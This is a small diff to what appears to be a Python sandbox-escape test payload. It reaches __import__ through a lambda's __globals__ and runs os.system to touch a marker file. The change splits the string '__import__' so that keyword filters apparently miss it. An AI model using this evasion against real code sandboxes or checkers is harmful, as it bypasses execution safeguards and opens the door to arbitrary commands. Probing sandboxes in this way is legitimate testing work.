@@ -2,6 +2,6 @@
 # effect: marker
 g = (lambda: 0).__globals__
 b = g["__builtins__"]
-imp = b["__import__"] if isinstance(b, dict) else b.__import__
+imp = b["__import__"] if isinstance(b, dict) else getattr(b, "__imp" + "ort__")
 imp("os").system("touch {marker}")
 return "done"
